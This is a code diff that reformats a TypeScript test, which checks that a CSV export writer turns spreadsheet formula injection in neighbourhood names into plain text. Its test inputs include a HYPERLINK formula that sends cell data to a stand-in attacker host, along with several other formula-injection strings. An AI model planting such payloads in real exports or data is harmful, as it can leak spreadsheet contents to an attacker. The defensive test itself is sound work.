@@ -2,14 +2,22 @@ import { writerFor } from '../../../gateway/bi/writers';
 import type { Column } from '../../../gateway/bi/datasets';
 import { neutraliseFormula } from '@buurtgraaf/platform';
 
-const column = (name: string, type: Column['type']) => ({ name, type, description: name, path: [] }) as unknown as Column;
+const column = (name: string, type: Column['type']) =>
+  ({ name, type, description: name, path: [] }) as unknown as Column;
 const columns = [column('neighbourhood_name', 'string'), column('population_growth', 'decimal')];
 
 describe('CSV formula injection', () => {
   test('when a partner names an area like a formula, then every CSV variant writes it as text, not a formula', () => {
     for (const delimiter of ['comma', 'semicolon'] as const) {
       const writer = writerFor('csv', columns, delimiter);
-      const cells = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', '+31 SUM(A1:A9)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
+      const cells = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
+        '+31 SUM(A1:A9)',
+        '-2+3',
+        '@SUM(A1)',
+        '\t=1+1',
+        '\r=1+1',
+      ];
       const lines = cells.map((name) => writer.row([name, -3.5]));
       for (const line of lines) expect(line).toMatch(/^"?'/);
       // Numbers stay numbers: a negative decimal is data, not a formula.
